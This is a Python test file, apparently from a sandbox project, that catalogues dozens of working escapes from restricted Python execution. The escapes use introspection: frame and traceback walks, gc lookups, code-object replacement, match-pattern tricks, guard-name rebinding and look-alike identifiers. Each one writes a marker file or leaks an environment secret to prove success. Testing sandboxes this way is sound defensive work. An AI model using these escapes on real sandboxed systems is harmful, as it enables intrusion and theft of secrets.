"""Introspection: from an innocent object to a module, a frame or the builtins."""

from __future__ import annotations

from attacks.case import CHANNEL, FACADE, LANDLOCK, NAMESPACES, POLICY, SECCOMP, Attack, Proof, rows

FILES = (POLICY, SECCOMP, LANDLOCK, NAMESPACES)
GONE = (POLICY, FACADE, CHANNEL)


def _writes(id: str, mechanism: str, source: str, needs: str = "") -> Attack:  # noqa: A002
    return Attack(id, mechanism, Proof.MARKER, source, FILES, needs=needs)


ATTACKS = (
    *rows(
        _writes,
        """
=== subclasses-walk: object.__subclasses__() finds a class whose method's globals hold a module
def attack():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__["open"]("@MARKER@", 1 | 64)
=== function-globals: __builtins__ in the globals of one's own function
def attack():
    there = attack.__globals__["__builtins__"]
    there = there if isinstance(there, dict) else there.__dict__
    there["open"]("@MARKER@", "w").close()
=== generator-frame: gi_frame.f_back of a running generator is the caller's frame (CVE-2023-37271)
def attack():
    def climb():
        frame = box[0].gi_frame.f_back
        while frame:
            yield frame
            frame = frame.f_back
    box = []
    box.append(climb())
    for frame in box[0]:
        if "open" in frame.f_builtins:
            return frame.f_builtins["open"]("@MARKER@", "w").close()
=== coroutine-frame: cr_frame of a coroutine carries builtins that the module's globals may lack
async def idle():
    pass
def attack():
    waiting = idle()
    waiting.cr_frame.f_builtins["open"]("@MARKER@", "w").close()
    waiting.close()
=== async-generator-frame: ag_frame, which the list of inspection names missed until RestrictedPython 8.5
async def idle():
    yield 1
def attack():
    idle().ag_frame.f_builtins["open"]("@MARKER@", "w").close()
=== traceback-frame: the traceback of a caught exception leads to frames
def attack():
    try:
        1 / 0
    except ZeroDivisionError as error:
        error.__traceback__.tb_frame.f_builtins["open"]("@MARKER@", "w").close()
=== exit-traceback: a context manager's __exit__ is handed a traceback without asking for a dunder
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        trace.tb_frame.f_builtins["open"]("@MARKER@", "w").close()
        return True
def attack():
    with Catch():
        1 / 0
=== sys-getframe: sys._getframe walks to the caller
import sys
def attack():
    sys._getframe(1).f_builtins["open"]("@MARKER@", "w").close()
=== current-frames: sys._current_frames hands out the frames of every thread
import sys
def attack():
    for frame in sys._current_frames().values():
        frame.f_builtins["open"]("@MARKER@", "w").close()
=== computed-getattr: getattr with a name put together at run time
def attack():
    look = getattr(attack, "__glo" + "bals__")
    there = look["__buil" + "tins__"]
    there = there if isinstance(there, dict) else getattr(there, "__di" + "ct__")
    there["op" + "en"]("@MARKER@", "w").close()
=== hostile-name: a str subclass as attribute name that lies to the guard's startswith
class Name(str):
    def startswith(self, *prefix):
        return False
def attack():
    getattr(attack, Name("__builtins__"))["open"]("@MARKER@", "w").close()
=== attrgetter: operator.attrgetter reads attributes in C
import operator
def attack():
    there = operator.attrgetter("__builtins__")(attack)
    there["open"]("@MARKER@", "w").close()
=== methodcaller: operator.methodcaller calls a method whose name is a string
import operator
def attack():
    there = operator.methodcaller("__getattribute__", "__builtins__")(attack)
    there["open"]("@MARKER@", "w").close()
=== match-keyword: a class pattern reads an attribute without an attribute node
def attack():
    match attack:
        case object(__builtins__=there):
            there["open"]("@MARKER@", "w").close()
=== super-getattribute: super().__getattribute__ is object's, past every guard
class Reach:
    def get(self, name):
        return super().__getattribute__(name)
def attack():
    there = Reach().get("get").__func__.__builtins__
    there["open"]("@MARKER@", "w").close()
=== type-dict: type.__dict__ holds the descriptors whose names are blocked
def attack():
    look = type(attack).__dict__["__builtins__"]
    look.__get__(attack)["open"]("@MARKER@", "w").close()
=== descriptor-get: a slot wrapper taken from a type is called on another object
import types
def attack():
    types.FunctionType.__builtins__.__get__(attack)["open"]("@MARKER@", "w").close()
=== builtin-self: __self__ of a builtin function is the builtins module
def attack():
    len.__self__.open("@MARKER@", "w").close()
=== globals-builtin: globals() lists what the names hide
def attack():
    there = globals()["__builtins__"]
    (there["open"] if isinstance(there, dict) else there.open)("@MARKER@", "w").close()
=== vars-builtin: vars() of an object is its __dict__ under a harmless name
def attack():
    vars(type(attack))["__builtins__"].__get__(attack)["open"]("@MARKER@", "w").close()
=== eval-string: eval of a string that the rules never saw
def attack():
    eval("open('@MARKER@', 'w').close()")
=== exec-string: exec defines a function that the rules never saw
def attack():
    scope = {}
    exec("def payload():\\n    open('@MARKER@', 'w').close()", scope)
    scope["payload"]()
=== compile-function: compile and FunctionType make a function with globals of one's choice
import types
def attack():
    code = compile("open('@MARKER@', 'w').close()", "x", "exec")
    types.FunctionType(code, {"__builtins__": __builtins__})()
=== code-replace: code.replace changes the names of a function after they were checked
def innocent(path, mode):
    return abs(path, mode)
def attack():
    code = innocent.__code__
    innocent.__code__ = code.replace(co_names=tuple("open" if n == "abs" else n for n in code.co_names))
    innocent("@MARKER@", "w").close()
=== set-code: assigning __code__ gives a guarded function unguarded code
def innocent():
    return 1
def attack():
    setattr(innocent, "__code__", compile("open('@MARKER@', 'w').close()", "x", "exec"))
    innocent()
=== gc-objects: the garbage collector lists every module dictionary
import gc
def attack():
    for thing in gc.get_objects():
        if isinstance(thing, dict) and thing.get("__name__") == "io" and "open" in thing:
            return thing["open"]("@MARKER@", "w").close()
=== gc-referrers: gc.get_referrers climbs from a public object to the dictionary that holds it
import gc
def attack():
    for thing in gc.get_referrers(len):
        if isinstance(thing, dict) and "open" in thing:
            return thing["open"]("@MARKER@", "w").close()
=== reduce-ex: __reduce_ex__ returns a Python function of copyreg with real globals
class Plain:
    pass
def attack():
    maker = Plain().__reduce_ex__(2)[0]
    there = maker.__globals__["__builtins__"]
    (there["open"] if isinstance(there, dict) else there.open)("@MARKER@", "w").close()
=== spec-loader: the loader of a module object loads any other module
import itertools
def attack():
    itertools.__loader__.load_module("posix").open("@MARKER@", 1 | 64)
=== module-attribute: an allowed module carries a forbidden one under a private or a public name
def attack():
    import random, statistics, dataclasses, typing, collections, json, re
    for module in (random, statistics, dataclasses, typing, collections, json, re):
        for name in ("_os", "sys", "_sys", "inspect", "codecs", "enum", "decoder"):
            found = getattr(module, name, None)
            system = getattr(found, "sys", found)
            if hasattr(system, "modules"):
                return system.modules["builtins"].open("@MARKER@", "w").close()
=== partial-func: functools.partial.func and wraps.__wrapped__ give back what was wrapped
import functools
def attack():
    made = functools.wraps(functools.namedtuple)(lambda: 0)
    real = made.__wrapped__
    real.__builtins__["open"]("@MARKER@", "w").close()
=== class-cell: a closure cell's contents, read through __closure__
def attack():
    import functools
    inner = functools.singledispatch(len).__closure__
    for cell in inner:
        if callable(cell.cell_contents) and hasattr(cell.cell_contents, "__builtins__"):
            return cell.cell_contents.__builtins__["open"]("@MARKER@", "w").close()
=== nfkc-identifier: compatibility characters spell a forbidden name that a text filter does not see
def attack():
    attack.__ｂｕｉｌｔｉｎｓ__["open"]("@MARKER@", "w").close()
=== guard-assignment: the guard's own name is assigned, so that the rewritten code calls the attacker's
def _getattr_(thing, name):
    return object.__getattribute__(thing, name)
class _write_:
    def __init__(self, thing):
        pass
_getitem_ = lambda thing, key: thing[key]
def attack():
    there = _getattr_(attack, "__builtins__")
    there["open"]("@MARKER@", "w").close()
=== guard-capture: a match pattern binds the guard's name
def attack():
    match [getattr]:
        case [_getattr_]:
            there = _getattr_(attack, "__builtins__")
    there["open"]("@MARKER@", "w").close()
=== guard-import-alias: import ... as binds the guard's name
from builtins import getattr as _getattr_
def attack():
    _getattr_(attack, "__builtins__")["open"]("@MARKER@", "w").close()
=== decorator-call: a decorator calls without a call node
def attack():
    @eval
    @(lambda function: "open('@MARKER@', 'w').close()")
    def unused():
        pass
=== metaclass-call: a class statement calls any callable given as metaclass
def run(name, bases, scope, **kw):
    return eval(name_of[0])
name_of = ["open('@MARKER@', 'w').close()"]
def attack():
    class Unused(metaclass=run):
        pass
=== operator-hook: an operator runs a builtin set as a dunder of a class
def attack():
    class Run:
        __class_getitem__ = eval
    Run["open('@MARKER@', 'w').close()"]
=== traceback-chain: tb_next leads into the frames of code that was called, not only of the caller
def attack():
    def deep():
        raise KeyError
    try:
        deep()
    except KeyError as error:
        error.__traceback__.tb_next.tb_frame.f_back.f_builtins["open"]("@MARKER@", "w").close()
=== excepthook-args: sys.exc_info hands out the traceback without a dunder
import sys
def attack():
    try:
        1 / 0
    except ZeroDivisionError:
        sys.exc_info()[2].tb_frame.f_builtins["open"]("@MARKER@", "w").close()
=== settrace-frame: a trace function is called with the frame of whatever runs next
import sys
def attack():
    def trace(frame, event, argument):
        frame.f_builtins["open"]("@MARKER@", "w").close()
    sys.settrace(trace)
    (lambda: 0)()
    sys.settrace(None)
=== state-of-a-type: object.__getstate__ of a built-in type is its dict, with the descriptors of its insides
needs: sys.version_info >= (3, 11)
import textwrap
def attack():
    found = object.__getstate__(type(attack))["__globals__"].__get__(textwrap.dedent)
    found["__builtins__"]["open"]("@MARKER@", "w").close()
=== match-args: a pattern fetches what __match_args__ names, and a metaclass says that anything is an instance
import textwrap
class Kind(type):
    def __instancecheck__(cls, instance):
        return True
class Anything(metaclass=Kind):
    __match_args__ = ("__globals__",)
def attack():
    match textwrap.dedent:
        case Anything(found):
            found["__builtins__"]["open"]("@MARKER@", "w").close()
=== cached-dict-of-a-type: functools.cached_property looks its name up in the dict of what it is asked for
import functools, textwrap
def attack():
    cached = functools.cached_property(len)
    cached.attrname = "__getattribute__"
    for fetch in (cached.__get__, functools.partial(functools.cached_property.__get__, cached)):
        found = fetch(object)(textwrap.dedent, "__globals__")
        return found["__builtins__"]["open"]("@MARKER@", "w").close()
=== cached-dict-by-super: the same through super(), which fetches the method for another object
import functools, textwrap
class Cached(functools.cached_property):
    def fetch(self, target):
        return super().__get__(instance=target)
def attack():
    cached = Cached(len)
    cached.attrname = "__getattribute__"
    found = cached.fetch(object)(textwrap.dedent, "__globals__")
    found["__builtins__"]["open"]("@MARKER@", "w").close()
""",
    ),
    Attack(
        "main-module",
        "the harness' own module is in sys.modules",
        Proof.LEAK,
        """
import sys
def attack():
    return sys.modules["__main__"].os.environ["@SECRET_NAME@"]
""",
        GONE,
    ),
    _writes(
        "match-args-of-a-namesake",
        "a class that is called like a builtin, whose pattern is the whole object, has __match_args__ of its own",
        """
import textwrap
class Kind(type):
    def __instancecheck__(cls, instance):
        return True
class int(metaclass=Kind):
    __match_args__ = ("__globals__",)
def attack():
    match textwrap.dedent:
        case int(found):
            found["__builtins__"]["open"]("@MARKER@", "w").close()
""",
    ),
    _writes(
        "dict-of-a-wrapped-type",
        "what functools and contextlib wrap hands its dict on to the wrapper: a built-in type's, too",
        """
import contextlib, functools, textwrap
def attack():
    for wrap in (functools.cache, contextlib.contextmanager):
        held = wrap(object).__dict__
        if "__getattribute__" in held:
            found = held["__getattribute__"](textwrap.dedent, "__globals__")
            return found["__builtins__"]["open"]("@MARKER@", "w").close()
""",
    ),
    _writes(
        "member-descriptor",
        "the descriptor of an enumeration's members fetches the attribute that its name says, of any class",
        """
import enum, textwrap
class Holder:
    fetched = None
def attack():
    told = type(enum.Enum.__dict__["name"])()
    told._attr_type, told._cls_type, told.member = "attr", object, None
    Holder.fetched = told
    told.name = "__getattribute__"
    found = Holder().fetched(textwrap.dedent, "__globals__")
    found["__builtins__"]["open"]("@MARKER@", "w").close()
""",
        needs="sys.version_info >= (3, 12)",
    ),
)
